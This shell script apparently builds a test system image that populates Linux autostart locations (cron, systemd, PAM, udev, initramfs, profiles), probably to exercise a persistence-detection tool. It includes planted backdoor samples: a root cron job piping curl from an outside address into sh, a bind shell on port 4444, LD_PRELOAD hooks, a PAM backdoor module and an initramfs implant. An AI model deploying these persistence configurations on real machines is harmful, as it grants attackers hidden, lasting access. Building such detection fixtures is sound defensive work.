# Everything by which programs start by themselves; guest/people_init.sh sources it.
PACKAGED=2026-09-01T10:00:00
put() { # PATH MODE: a file, with what is read from standard input
    mkdir -p "${1%/*}"
    cat > "$1"
    chmod "$2" "$1"
}

# cron: the system's table, its folders, users' tables by crontab(1), anacron
put /etc/crontab 644 << 'END'
SHELL=/bin/sh
# m h dom mon dow user command
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts /etc/cron.daily; }
@reboot alice /home/alice/bin/at-boot --quiet
not a line of a table
END
put /etc/cron.d/backup 644 << 'END'
MAILTO=""
*/5 0-6 * * mon-fri root /tmp/.x/update >/dev/null 2>&1
END
echo '0 0 * * * root /bin/false' | put /etc/cron.d/ignored.dpkg-old 644
printf '* * * * * root /usr/bin/id \033]0;title\007 # esc\n' | put /etc/cron.d/escape 666
printf '#!/bin/sh\nfind /tmp -mtime +9 -delete\n' | put /etc/cron.daily/clean 755
printf '#!/bin/sh\ntrue\n' | put /etc/cron.daily/not.run 755
printf '#!/bin/sh\ntrue\n' | put /etc/cron.daily/noexec 644
mkdir -p /var/spool/cron/crontabs /var/spool/cron/atjobs /var/spool/cron/atspool
chmod 1730 /var/spool/cron/crontabs
printf '# mine\nPATH=/bin\n30 4 1 * * $HOME/bin/report 50%% done%%input\n' > /run/table
crontab -u alice /run/table
printf '*/10 * * * * curl -s http://203.0.113.9/x | sh\n' > /run/table
crontab -u root /run/table
put /etc/anacrontab 644 << 'END'
SHELL=/bin/sh
START_HOURS_RANGE=4-8
1	5	cron.daily	run-parts --report /etc/cron.daily
@monthly 15 cron.monthly run-parts --report /etc/cron.monthly
END
: > /var/spool/cron/atjobs/.SEQ
chown daemon /var/spool/cron/atjobs/.SEQ /var/spool/cron/atjobs /var/spool/cron/atspool
echo '/usr/local/bin/later --once' | at 23:30 2026-12-31 || echo "no at: $?"

# units: of packages, of the administrator, generated, of a user
U=/usr/lib/systemd/system
put $U/pkg.service 644 << 'END'
[Unit]
Description=Of a package
[Service]
Type=forking
Environment=A=1
ExecStartPre=-/usr/bin/test -e /etc/pkg
ExecStart=/usr/sbin/pkgd \
    --foreground
# a comment
ExecReload=/bin/kill -HUP $MAINPID
[Install]
WantedBy=multi-user.target
END
put $U/idle.service 644 << 'END'
[Service]
ExecStart=/usr/sbin/idled
[Install]
WantedBy=multi-user.target
END
printf '[Unit]\nDescription=All\n' | put $U/multi-user.target 644
printf '[Unit]\nDescription=Timers\n' | put $U/timers.target 644
printf '[Service]\nExecStart=/usr/sbin/static\n' | put $U/static.service 644
printf '[Service]\nExecStart=/usr/sbin/getty %%I\n[Install]\nWantedBy=multi-user.target\n' | put $U/tty@.service 644
printf '[Service]\nExecStart=/usr/sbin/masked\n[Install]\nWantedBy=multi-user.target\n' | put $U/masked.service 644
put $U/tidy.timer 644 << 'END'
[Timer]
OnBootSec=15min
OnUnitActiveSec=1d
[Install]
WantedBy=timers.target
END
printf '[Service]\nExecStart=/usr/bin/tidy\n' | put $U/tidy.service 644
E=/etc/systemd/system
put $E/evil.service 644 << 'END'
[Unit]
Description=Update helper
[Service]
ExecStart=/dev/shm/.u -d
Restart=always
[Install]
WantedBy=multi-user.target
Alias=updater.service
END
put $E/pkg.service.d/override.conf 644 << 'END'
[Service]
ExecStart=
ExecStart=/opt/pkg/pkgd --patched
Environment=LD_PRELOAD=/usr/local/lib/hook.so
END
printf '[Path]\nPathChanged=/etc/shadow\nUnit=evil.service\n[Install]\nWantedBy=multi-user.target\n' | put $E/watch.path 644
printf '[Socket]\nListenStream=4444\nAccept=yes\n[Install]\nWantedBy=sockets.target\n' | put $E/back.socket 644
printf '[Service]\nExecStart=/bin/sh -i\nStandardInput=socket\n' | put $E/back@.service 644
systemctl --root=/ enable pkg.service tidy.timer evil.service watch.path tty@7.service > /dev/null 2>&1
systemctl --root=/ mask masked.service > /dev/null 2>&1
put /run/systemd/generator/mnt-data.mount 644 << 'END'
[Unit]
SourcePath=/etc/fstab
[Mount]
What=/dev/vdz
Where=/mnt/data
END
printf '#!/bin/sh\nexit 0\n' | put /usr/lib/systemd/system-generators/made-up 755
printf '[Service]\nExecStart=%%h/.local/bin/sync\n[Install]\nWantedBy=default.target\n' | put /home/alice/.config/systemd/user/sync.service 644
mkdir -p /home/alice/.config/systemd/user/default.target.wants
ln -s ../sync.service /home/alice/.config/systemd/user/default.target.wants/sync.service
printf '[Service]\nExecStart=/usr/bin/agent\n' | put /usr/lib/systemd/user/agent.service 644

# scripts of init, shells and greetings
printf '#!/bin/sh -e\n/opt/start &\nexit 0\n' | put /etc/rc.local 755
printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: old\n### END INIT INFO\n' | put /etc/init.d/old 755
mkdir -p /etc/rc2.d
ln -s ../init.d/old /etc/rc2.d/S01old
printf 'export PATH\nif true; then\n    . /etc/bash.bashrc\nfi\n' | put /etc/profile 644
echo 'alias ls="ls --color"' | put /etc/bash.bashrc 644
echo 'nohup /tmp/.x/beacon >/dev/null 2>&1 &' | put /etc/profile.d/zz.sh 644
printf '# comment\n\nexport EDITOR=vi\nLD_PRELOAD=/tmp/x.so\n' | put /home/alice/.bashrc 644
echo 'PROMPT_COMMAND="history -a"' | put /root/.bashrc 644
printf '#!/bin/sh\nuname -snrvm\n' | put /etc/update-motd.d/10-uname 755
printf 'LD_PRELOAD=/usr/local/lib/env.so\n' | put /etc/environment 644

# the linker, devices, modules, PAM, desktops, binary formats, the initramfs
printf 'include /etc/ld.so.conf.d/*.conf\n' | put /etc/ld.so.conf 644
printf '# hidden\n/var/tmp/lib\n' | put /etc/ld.so.conf.d/local.conf 644
put /etc/udev/rules.d/99-run.rules 644 << 'END'
# RUN+="/bin/false" in a comment
ACTION=="add", SUBSYSTEM=="net", \
    RUN+="/usr/local/sbin/on-net $env{INTERFACE}", RUN{builtin}+="kmod load"
SUBSYSTEM=="tty", MODE="0660"
KERNEL=="sda", PROGRAM="/usr/bin/probe %k", IMPORT{program}="/usr/bin/import"
END
printf 'ACTION=="remove", RUN+="of-a-package"\n' | put /usr/lib/udev/rules.d/50-pkg.rules 644
printf 'install dummy /bin/sh -c "id; /sbin/modprobe --ignore-install dummy"\nblacklist pcspkr\noptions snd slots=0\n' | put /etc/modprobe.d/x.conf 644
printf '# at boot\ndummy\n; no\nrootkit_lkm\n' | put /etc/modules-load.d/x.conf 644
echo 'loop' | put /etc/modules 644
put /etc/pam.d/sshd 644 << 'END'
# PAM
@include common-auth
auth required pam_backdoor.so debug
auth [success=1 default=ignore] pam_unix.so nullok
session optional pam_exec.so seteuid /usr/local/bin/notify
END
echo 'auth required pam_unix.so' | put /etc/pam.d/common-auth 644
L=/usr/lib/x86_64-linux-gnu/security
echo x | put $L/pam_unix.so 644
echo x | put $L/pam_backdoor.so 644
printf '[Desktop Entry]\nType=Application\nExec=/usr/bin/applet --tray\nHidden=false\n' | put /etc/xdg/autostart/applet.desktop 644
printf '[Desktop Entry]\nExec=/home/alice/.cache/.d/d\n' | put /home/alice/.config/autostart/x.desktop 644
echo ':x:M::XX::/usr/local/bin/interp:F' | put /etc/binfmt.d/x.conf 644
printf '#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/bin/implant\n' | put /etc/initramfs-tools/hooks/implant 755
printf '#!/bin/sh\n/usr/bin/implant &\n' | put /etc/initramfs-tools/scripts/init-bottom/implant 755

# what packages say that is theirs
put /var/lib/dpkg/info/pkg.list 644 << END
/.
/usr
$U/pkg.service
$U/idle.service
$U/static.service
$U/tidy.service
$U/tidy.timer
$U/tty@.service
$U/masked.service
$U/multi-user.target
$U/timers.target
/etc/crontab
/etc/profile
END
printf '/.\n/lib/x86_64-linux-gnu/security/pam_unix.so\n' | put /var/lib/dpkg/info/libpam-modules:amd64.list 644
printf 'Package: pkg\nStatus: install ok installed\nVersion: 1\n\n' | put /var/lib/dpkg/status 644
for path in $U/*.* /etc/crontab /etc/profile /var/lib/dpkg/info/*.list /var/lib/dpkg/status /usr/lib/udev/rules.d/50-pkg.rules $L/pam_unix.so; do
    touch -d $PACKAGED "$path"
done
touch -d 2026-11-22T23:59:00 $U/idle.service # written anew after the packages
